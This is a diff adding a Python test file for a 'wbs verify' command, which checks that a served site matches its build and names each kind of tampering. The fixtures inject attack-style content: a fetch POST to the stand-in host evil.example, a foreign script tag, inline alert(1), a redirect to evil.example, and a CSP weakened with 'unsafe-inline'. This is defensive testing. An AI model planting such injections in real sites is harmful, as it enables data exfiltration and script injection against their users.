@@ -1,0 +1,389 @@
+"""``wbs verify``: a served build passes; each way of tampering with it is named, with exit 1.
+
+The untouched build is served by the real local host (functions/host.py). Tampered copies
+are served by a stand-in WSGI host on 127.0.0.1 whose files, headers and redirects each test
+changes.
+"""
+
+from __future__ import annotations
+
+import base64
+import hashlib
+import json
+import socket
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import nacl.public
+import pytest
+from click.testing import CliRunner, Result
+from rich.console import Console
+from waitress.server import create_server
+
+from functions.headers import CONTENT_SECURITY_POLICY, SECURITY_HEADERS
+from functions.keyring import KeyEntry, Keyring, dump, fingerprint, load
+from tests.conftest import ROOT, load_build_module, serving
+from wbs import console
+from wbs import verify as check
+from wbs.cli import cli
+from wbs.commands.keys import grouped
+
+CONFIG = ROOT / "site" / "config.toml"
+APP = "assets/js/app.mjs"
+WORKER = "assets/js/receipt-worker.mjs"
+
+
+class StandIn:
+    """A host that serves ``files`` (a copy of a build) with ``headers``, and answers the
+    paths in ``redirects`` with a 302 to their target."""
+
+    def __init__(self) -> None:
+        self.files: dict[str, bytes] = {}
+        self.headers: dict[str, str] = {}
+        self.redirects: dict[str, str] = {}
+
+    def __call__(self, environ: dict[str, Any], start_response: Any) -> list[bytes]:
+        path = environ["PATH_INFO"]
+        if path in self.redirects:
+            start_response("302 Found", [("Location", self.redirects[path])])
+            return [b""]
+        name = path.lstrip("/")
+        body = self.files.get(name + "index.html" if name == "" or name.endswith("/") else name)
+        if body is None:
+            start_response("404 Not Found", [("Content-Type", "text/plain")])
+            return [b"not found"]
+        start_response("200 OK", [*self.headers.items(), ("Content-Length", str(len(body)))])
+        return [body]
+
+
+@pytest.fixture(autouse=True)
+def wide(monkeypatch: pytest.MonkeyPatch) -> None:
+    """A wide console, so that table cells are not wrapped; no keyring or config from the
+    environment."""
+    monkeypatch.setattr(console, "out", Console(width=1000, highlight=False))
+    for name in ("WBS_KEYRING", "WBS_CONFIG"):
+        monkeypatch.delenv(name, raising=False)
+
+
+@pytest.fixture(scope="module")
+def stand_in_host() -> Iterator[tuple[str, StandIn]]:
+    app = StandIn()
+    server = create_server(app, host="127.0.0.1", port=0)
+    with serving(server):
+        yield f"http://127.0.0.1:{server.effective_port}", app
+
+
+@pytest.fixture
+def stand_in(
+    stand_in_host: tuple[str, StandIn], keyring_file: Path, tmp_path: Path
+) -> tuple[str, StandIn]:
+    """The stand-in host serving an untouched build, with the right headers. Built afresh
+    (0.1 s), so that the reference and the copy come from the same state of the tree."""
+    url, app = stand_in_host
+    load_build_module().build(keyring=keyring_file, out=tmp_path / "served", config=CONFIG)
+    app.files = files_of(tmp_path / "served")
+    app.headers = {**SECURITY_HEADERS, "Content-Type": "text/html; charset=utf-8"}
+    app.redirects = {}
+    return url, app
+
+
+def files_of(folder: Path) -> dict[str, bytes]:
+    return {
+        p.relative_to(folder).as_posix(): p.read_bytes() for p in folder.rglob("*") if p.is_file()
+    }
+
+
+def verify(url: str, keyring: Path) -> Result:
+    return CliRunner().invoke(
+        cli, ["verify", url, "--keyring", str(keyring), "--config", str(CONFIG)]
+    )
+
+
+def rows(result: Result) -> dict[str, tuple[str, str]]:
+    """The files table: address -> (result, detail's first line)."""
+    found = {}
+    for line in result.stdout.splitlines():
+        cells = [c.strip() for c in line.split("│")[1:-1]]
+        if len(cells) == 3 and cells[0].startswith("/"):
+            found[cells[0]] = (cells[1], cells[2])
+    return found
+
+
+def failed(result: Result) -> str:
+    """The one-line error (and its hint) of a run that found differences."""
+    assert result.exit_code == 1, result.output
+    error, hint = result.stderr.splitlines()
+    assert error.startswith("wbs: error: http://127.0.0.1:")
+    assert "does not serve what this checkout builds" in error
+    assert hint.startswith("hint: ") and "docs/verify.md" in hint
+    return error
+
+
+def sri(data: bytes) -> str:
+    return "sha384-" + base64.b64encode(hashlib.sha384(data).digest()).decode()
+
+
+def test_the_local_host_serving_the_build_passes(
+    site_server: tuple[str, Path], keyring_file: Path
+) -> None:
+    # Given the real local host serving a build of this checkout
+    url, _ = site_server
+    # When an outsider verifies it with the same keyring and config
+    result = verify(url, keyring_file)
+    # Then every address matches, the workers are named as covered by this check only, and
+    # the key's fingerprint is printed for comparison out of band
+    assert result.exit_code == 0, result.output
+    table = rows(result)
+    assert {r for r, _ in table.values()} == {"ok"}
+    for address in ("/", "/index.html", "/en/", "/status/", "/en/status/index.html", "/" + APP):
+        assert address in table
+    assert table["/" + WORKER] == ("ok", "no SRI: only this check covers it")
+    assert table["/" + APP] == ("ok", "")
+    (key,) = load(keyring_file).keys
+    assert grouped(key.fingerprint) in result.stdout
+    assert "ok: http://127.0.0.1:" in result.stdout
+    assert "Strict-Transport-Security was not checked" in result.stdout
+
+
+def test_an_untouched_copy_passes_on_the_stand_in_host(
+    stand_in: tuple[str, StandIn], keyring_file: Path
+) -> None:
+    url, app = stand_in
+    app.redirects["/status/"] = "/status/index.html"  # within the origin: followed
+    result = verify(url, keyring_file)
+    assert result.exit_code == 0, result.output
+    assert rows(result)["/status/"] == ("ok", "")
+
+
+def test_a_changed_script_is_named(stand_in: tuple[str, StandIn], keyring_file: Path) -> None:
+    url, app = stand_in
+    app.files[APP] += b"\nfetch('https://evil.example/', {method: 'POST'});\n"
+    result = verify(url, keyring_file)
+    assert "/assets/js/app.mjs DIFFERENT" in failed(result)
+    table = rows(result)
+    assert table["/" + APP][0] == "DIFFERENT"
+    assert table["/" + APP][1].startswith("SHA-256 ")
+    assert table["/index.html"] == ("ok", "")
+
+
+def test_a_changed_integrity_attribute_is_named(
+    stand_in: tuple[str, StandIn], keyring_file: Path
+) -> None:
+    # Given a tampered script and a page whose integrity attribute was changed to match it
+    url, app = stand_in
+    built = app.files[APP]
+    app.files[APP] = built + b"\n// changed\n"
+    page = app.files["index.html"]
+    assert page.count(sri(built).encode()) == 1
+    app.files["index.html"] = page.replace(sri(built).encode(), sri(app.files[APP]).encode())
+    # When verified, then the page names the script and both integrity values
+    result = verify(url, keyring_file)
+    error = failed(result)
+    assert "/ DIFFERENT" in error and "/index.html DIFFERENT" in error
+    table = rows(result)
+    for address in ("/", "/index.html"):
+        assert table[address] == (
+            "DIFFERENT",
+            f"<script type=module /assets/js/app.mjs> integrity {sri(app.files[APP])[:20]}…,"
+            f" built {sri(built)[:20]}…",
+        )
+    assert table["/en/"] == ("ok", "")
+
+
+def test_an_extra_script_from_another_origin_is_named(
+    stand_in: tuple[str, StandIn], keyring_file: Path
+) -> None:
+    url, app = stand_in
+    evil = b'<script src="https://evil.example/x.js"></script>\n</head>'
+    app.files["en/index.html"] = app.files["en/index.html"].replace(b"</head>", evil)
+    result = verify(url, keyring_file)
+    assert "/en/ DIFFERENT" in failed(result)
+    assert rows(result)["/en/"] == ("DIFFERENT", "extra <script https://evil.example/x.js>")
+    assert "reference to another origin: <script src=https://evil.example/x.js>" in result.stdout
+
+
+def test_inline_script_frames_and_styles_are_named(
+    stand_in: tuple[str, StandIn], keyring_file: Path
+) -> None:
+    url, app = stand_in
+    added = b'<style>body{}</style><iframe src="/x"></iframe><script>alert(1)</script></body>'
+    app.files["status/index.html"] = app.files["status/index.html"].replace(b"</body>", added)
+    result = verify(url, keyring_file)
+    failed(result)
+    for named in ("extra <iframe>", "extra <style>", "extra inline <script>"):
+        assert named in result.stdout
+
+
+@pytest.mark.parametrize(
+    ("header", "value", "named"),
+    [
+        (
+            "Content-Security-Policy",
+            CONTENT_SECURITY_POLICY.replace(
+                "script-src 'self'", "script-src 'self' 'unsafe-inline'"
+            ),
+            "script-src adds 'unsafe-inline'",
+        ),
+        ("Content-Security-Policy", "default-src 'none'", "no script-src"),
+        ("X-Content-Type-Options", None, "missing"),
+        ("Referrer-Policy", "origin", "is 'origin', not 'no-referrer'"),
+    ],
+)
+def test_a_weakened_or_missing_header_is_named(
+    stand_in: tuple[str, StandIn], keyring_file: Path, header: str, value: str | None, named: str
+) -> None:
+    url, app = stand_in
+    if value is None:
+        del app.headers[header]
+    else:
+        app.headers[header] = value
+    result = verify(url, keyring_file)
+    assert f"{header} header" in failed(result)
+    assert {r for r, _ in rows(result).values()} == {"ok"}  # the files themselves are intact
+    line = next(line for line in result.stdout.splitlines() if named in line)
+    assert header in line and "every answer (" in line
+
+
+def test_a_missing_worker_is_named(stand_in: tuple[str, StandIn], keyring_file: Path) -> None:
+    url, app = stand_in
+    del app.files[WORKER]
+    result = verify(url, keyring_file)
+    assert f"/{WORKER} missing" in failed(result)
+    assert rows(result)["/" + WORKER] == ("missing", "HTTP 404")
+
+
+def test_a_redirect_to_another_origin_is_not_followed(
+    stand_in: tuple[str, StandIn], keyring_file: Path
+) -> None:
+    url, app = stand_in
+    app.redirects["/" + APP] = "https://evil.example/app.mjs"
+    result = verify(url, keyring_file)
+    failed(result)
+    assert rows(result)["/" + APP] == (
+        "DIFFERENT",
+        "redirects to another origin: https://evil.example/app.mjs",
+    )
+
+
+def test_a_page_built_for_another_keyring_is_named(
+    stand_in: tuple[str, StandIn], keyring_file: Path, tmp_path: Path
+) -> None:
+    # Given a site built from the same checkout, but for someone else's key
+    url, app = stand_in
+    other = KeyEntry.for_public_key(
+        bytes(nacl.public.PrivateKey.generate().public_key), "Penyadap", "2026-11-28"
+    )
+    dump(Keyring((other,)), tmp_path / "keys" / "keyring.json")
+    load_build_module().build(
+        keyring=tmp_path / "keys" / "keyring.json", out=tmp_path / "site", config=CONFIG
+    )
+    app.files = files_of(tmp_path / "site")
+    # When verified against the real keyring
+    result = verify(url, keyring_file)
+    # Then every page names both keys, the manifest its pages, and the key table says NO
+    failed(result)
+    (ours,) = load(keyring_file).keys
+    table = rows(result)
+    assert table["/index.html"] == (
+        "DIFFERENT",
+        f"encrypts to key {other.kid} (Penyadap), not in the local keyring",
+    )
+    assert f"does not encrypt to key {ours.kid} (Inspektur Uji) of the local keyring" in (
+        result.stdout
+    )
+    assert table["/build-manifest.json"] == (
+        "DIFFERENT",
+        "lists other sums for en/index.html, en/status/index.html, index.html, status/index.html",
+    )
+    assert table["/" + APP] == ("ok", "")
+    line = next(line for line in result.stdout.splitlines() if other.kid in line and "NO" in line)
+    assert grouped(other.fingerprint) in line
+
+
+def test_a_page_showing_the_right_fingerprint_for_another_key_is_named(
+    stand_in: tuple[str, StandIn], keyring_file: Path
+) -> None:
+    # Given a page that shows the inspector's kid and fingerprint but holds another key
+    url, app = stand_in
+    (ours,) = load(keyring_file).keys
+    theirs = base64.b64encode(bytes(nacl.public.PrivateKey.generate().public_key)).decode()
+    page = app.files["index.html"]
+    app.files["index.html"] = page.replace(ours.public_key.encode(), theirs.encode())
+    real = fingerprint(base64.b64decode(theirs))
+    result = verify(url, keyring_file)
+    # Then the page is named for showing one key and encrypting to another
+    failed(result)
+    assert rows(result)["/index.html"] == (
+        "DIFFERENT",
+        f"key {ours.kid} (Inspektur Uji) shows fingerprint {ours.fingerprint[:20]}…,"
+        f" but its public key's is {real[:20]}…",
+    )
+    assert f"encrypts to key {real[:16]} (Inspektur Uji), not in the local keyring" in (
+        result.stdout
+    )
+    line = next(line for line in result.stdout.splitlines() if real[:16] in line and "NO" in line)
+    assert grouped(real) in line
+
+
+def test_extra_files_are_named(stand_in: tuple[str, StandIn], keyring_file: Path) -> None:
+    url, app = stand_in
+    listing = json.loads(app.files["build-manifest.json"])
+    listing["files"]["assets/js/extra.mjs"] = "0" * 64
+    app.files["build-manifest.json"] = json.dumps(listing).encode()
+    preload = b'<link rel="modulepreload" href="/assets/js/more.mjs">\n</head>'
+    app.files["index.html"] = app.files["index.html"].replace(b"</head>", preload)
+    result = verify(url, keyring_file)
+    failed(result)
+    table = rows(result)
+    assert table["/assets/js/extra.mjs"] == ("extra", "listed in the served build-manifest.json")
+    assert table["/assets/js/more.mjs"] == ("extra", "loaded by /")
+    assert table["/build-manifest.json"] == (
+        "DIFFERENT",
+        "lists files the build does not have: assets/js/extra.mjs",
+    )
+
+
+def test_an_unreachable_site_is_one_error_with_a_hint(keyring_file: Path) -> None:
+    with socket.socket() as probe:  # a port nothing listens on
+        probe.bind(("127.0.0.1", 0))
+        port = probe.getsockname()[1]
+    result = verify(f"http://127.0.0.1:{port}", keyring_file)
+    assert result.exit_code == 1
+    error, hint = result.stderr.splitlines()
+    assert error.startswith(f"wbs: error: cannot fetch http://127.0.0.1:{port}/build-manifest.json")
+    assert hint.startswith("hint: check the address")
+
+
+@pytest.mark.parametrize(
+    "url",
+    ["ftp://example.org", "https://example.org/lapor/", "https://example.org/?a=1", "example.org"],
+)
+def test_an_address_that_is_not_an_origin_is_refused(url: str, keyring_file: Path) -> None:
+    result = verify(url, keyring_file)
+    assert result.exit_code == 1
+    assert result.stderr.splitlines() == [
+        f"wbs: error: {url} is not a site's address",
+        "hint: give the origin the site is served at: wbs verify https://lapor.example.go.id",
+    ]
+
+
+def test_hsts_is_required_over_https_only() -> None:
+    headers = {k.lower(): (v,) for k, v in SECURITY_HEADERS.items()}
+    assert check.header_differences(headers, https=True) == []
+    del headers["strict-transport-security"]
+    assert check.header_differences(headers, https=False) == []
+    assert check.header_differences(headers, https=True) == [
+        ("Strict-Transport-Security", "missing")
+    ]
+
+
+def test_csp_is_compared_directive_by_directive() -> None:
+    served = "default-src 'none'; script-src 'SELF' https://cdn.example; report-uri /r"
+    assert check.csp_differences(
+        "default-src 'none'; script-src 'self'; base-uri 'none'", served
+    ) == [
+        "no base-uri",
+        "adds report-uri /r",
+        "script-src adds https://cdn.example",
+    ]
